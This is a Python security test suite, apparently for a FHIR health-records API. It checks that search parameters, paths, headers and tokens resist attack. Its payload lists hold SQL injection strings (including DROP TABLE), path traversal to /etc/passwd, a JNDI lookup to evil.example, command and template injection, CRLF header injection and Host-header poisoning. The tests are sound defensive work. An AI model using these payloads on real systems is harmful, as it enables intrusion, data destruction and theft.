"""What is written where a name, a value or a place is expected: nothing gets in, and nothing hidden is shown.

Sources: OWASP Web Security Testing Guide 4.2 (input validation), RFC 6750 2.3.
"""

import itertools
from collections.abc import Iterator

import httpx
import pytest

from pk_api.fhir.resource_types import TYPES
from pk_api.fhir.search.parameters import SEARCH_PARAMETERS
from tests.support.service import FHIR_JSON, as_fhir, create, token
from tests.web.attacks.conftest import OTHER, Target

pytestmark = pytest.mark.asyncio(loop_scope="module")

FHIR = {"Content-Type": FHIR_JSON}
PAYLOADS = (
    "' OR '1'='1",
    "x'; DROP TABLE current; --",
    "') OR 1=1 --",
    "x' UNION SELECT body FROM version --",
    '" OR ""="',
    "1; SELECT pg_sleep(5) --",
    "$1",
    ":v0_owner",
    "%(v0_owner)s",
    "?",
    "x\\' OR 1=1 --",
    "%' OR '%'='",
    "\x1f\x1e\x1d",
    "\u0000' OR 1=1",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "http://metadata.invalid/latest/meta-data",
    "${jndi:ldap://evil.example/x}",
    "{{7*7}}",
    "`id`",
    "9" * 3_000,
    "a|" * 1_000,
    "\\" * 2_000,
    "x\r\nSet-Cookie: stolen=1",
    "<script>alert(1)</script>",
    "gt9999999999999999-99-99",
    "𝕏\u202e\ufeff",
)


def _is_refused_or_empty(target: Target, answer: httpx.Response) -> bool:
    return (
        answer.status_code < 500
        and answer.status_code != 201
        and target.hidden not in answer.text
        and OTHER not in answer.text
        and "root:" not in answer.text
        and "set-cookie" not in answer.headers
    )


async def _none_gets_in(target: Target, asked: Iterator[tuple[str, dict[str, str]]]) -> None:
    before = await target.standing()
    wrong = []
    for path, params in asked:
        answer = await target.http.get(path, params=params)
        if not _is_refused_or_empty(target, answer):
            wrong.append((path, params, answer.status_code))

    assert wrong == []
    assert await target.standing() == before


async def test_nothing_gets_in_by_any_search_parameter(target: Target) -> None:
    payloads = itertools.cycle(PAYLOADS)
    named = {
        code: type_  # one type of those that have it: what is made of a parameter follows from its kind
        for type_ in TYPES
        for code, parameter in SEARCH_PARAMETERS[type_].items()
        if parameter.is_searchable
    }
    # the conditions are the same on both databases: on PostgreSQL a quarter is enough
    codes = sorted(named)[:: 1 if target.service.database_url.startswith("sqlite") else 4]
    asked = [(f"/fhir/{named[code]}", {code: next(payloads)}) for code in codes]

    assert len(asked) > 50
    await _none_gets_in(target, iter(asked))


async def test_every_payload_is_tried_on_every_kind_of_parameter(target: Target) -> None:
    kinds = {
        one.type: (t, code) for t in TYPES for code, one in SEARCH_PARAMETERS[t].items() if one.is_searchable
    }

    assert {"token", "string", "reference", "date", "quantity", "uri", "composite"} <= kinds.keys()
    await _none_gets_in(
        target, ((f"/fhir/{t}", {code: payload}) for t, code in kinds.values() for payload in PAYLOADS)
    )


NAMES = (
    *(
        "{}",
        "identifier:{}",
        "identifier{}",
        "organization.{}",
        "organization:{}.name",
        "_has:{}:patient:status",
    ),
    *("_has:Task:{}:status", "_has:Task:patient:{}", "name:exact{}"),
)
CONTROLS = (
    "_sort",
    "_count",
    "_include",
    "_revinclude",
    "_elements",
    "_summary",
    "_total",
    "_cursor",
    "_format",
)


async def test_nothing_gets_in_by_the_name_of_a_parameter_or_by_what_controls_a_search(
    target: Target,
) -> None:
    asked = [("/fhir/Patient", {name.format(one): "x"}) for name in NAMES for one in PAYLOADS[:14]]
    asked += [("/fhir/Patient", {control: one}) for control in CONTROLS for one in PAYLOADS]
    asked += [("/fhir/_history", {"_since": one}) for one in PAYLOADS]

    await _none_gets_in(target, iter(asked))


PATHS = (
    *(
        "/fhir/Patient/{}",
        "/fhir/{}",
        "/fhir/Patient/x/_history/{}",
        "/fhir/Patient/x/{}",
        "/v1/contracts/{}",
    ),
    *("/v1/contracts/x/{}", "/docs/files/{}", "/docs/{}", "/{}", "/fhir/ValueSet/{}"),
)
STEPS = (
    *(
        "../../../../etc/passwd",
        "..%2f..%2f..%2f..%2fetc%2fpasswd",
        "%2e%2e/%2e%2e/etc/passwd",
        "..;/..;/etc/passwd",
    ),
    *(
        "....//....//etc/passwd",
        "%252e%252e%252fetc%252fpasswd",
        "..%5c..%5cwindows%5cwin.ini",
        "/etc/passwd",
    ),
    *(
        "%00",
        "x%00.json",
        "%c0%ae%c0%ae/etc/passwd",
        "x%0d%0aSet-Cookie:%20stolen=1",
        "'%20OR%20'1'='1",
        "~root",
    ),
    *("/evil.example/%2e%2e", "\\evil.example", "x?_format=../../etc/passwd", ".git/config", ".env"),
)


async def test_no_address_leads_out_of_its_place(target: Target) -> None:
    wrong = []
    for path, step in itertools.product(PATHS, STEPS):
        answer = await target.http.get(path.format(step))
        place = answer.headers.get("location", "")
        if not _is_refused_or_empty(target, answer) or answer.status_code < 300 or "evil.example" in place:
            wrong.append((path.format(step), answer.status_code, place))

    assert [one for one in wrong if one[0] not in ("/docs/", "/")] == []


async def test_no_host_that_a_caller_names_comes_into_an_address(target: Target) -> None:
    told = {"Host": "evil.example", "X-Forwarded-Host": "evil.example", "Forwarded": "host=evil.example"}

    for path in (
        "/",
        "/fhir/Patient",
        "/fhir/metadata",
        "/v1/contracts/",
        "/fhir/Patient/",
        "/docs/",
        "/health/live/",
    ):
        answer = await target.http.get(path, headers=told)

        assert "evil.example" not in answer.text + str(answer.headers), path


async def test_a_token_counts_in_its_header_alone(target: Target) -> None:
    text = token(target.service.data, "system-hospital")
    anybody = target.service.as_(None)

    answers = [
        await anybody.get("/fhir/Patient", params={"access_token": text}),
        await anybody.get(
            "/fhir/Patient", headers={"Cookie": f"access_token={text}; Authorization=Bearer {text}"}
        ),
        await anybody.get(
            "/fhir/Patient", headers={"X-Access-Token": text, "Proxy-Authorization": f"Bearer {text}"}
        ),
        await anybody.post("/fhir/Patient/_search", data={"access_token": text}),
    ]

    assert [answer.status_code for answer in answers] == [401] * 4


async def test_a_method_is_what_the_request_says_and_no_header(target: Target) -> None:
    made = await create(target.http, {"resourceType": "Practitioner"})
    override = {"X-HTTP-Method-Override": "DELETE", "X-HTTP-Method": "DELETE", "X-Method-Override": "DELETE"}

    await target.http.post(f"/fhir/Practitioner/{made['id']}?_method=DELETE", headers=override | FHIR)

    assert (await target.http.get(f"/fhir/Practitioner/{made['id']}", headers=override)).status_code == 200


ECHOED = (
    "X-Request-Id",
    "traceparent",
    "tracestate",
    "Origin",
    "Accept-Language",
    "Prefer",
    "If-None-Match",
    "Accept",
)


async def test_no_header_of_a_request_makes_one_of_the_answer(target: Target) -> None:
    for name in ECHOED:
        for value in (
            b"x\r\nSet-Cookie: stolen=1",
            b"x\nSet-Cookie: stolen=1",
            b"x\x00y",
            b"\xff\xfe",
            b"x\x0b\x0cy",
        ):
            answer = await target.http.get("/fhir/Practitioner", headers={name: value})  # type: ignore[dict-item]  # as bytes
            assert answer.status_code < 500, name
            assert "set-cookie" not in answer.headers
            assert not any(set(v) & set("\r\n\0") for v in answer.headers.values()), name
    body = {"resourceType": "Practitioner", "id": "x\r\nSet-Cookie: a=1"}
    assert (
        await target.http.put("/fhir/Practitioner/x%0d%0aSet-Cookie:%20a=1", json=body, headers=as_fhir())
    ).status_code == 400
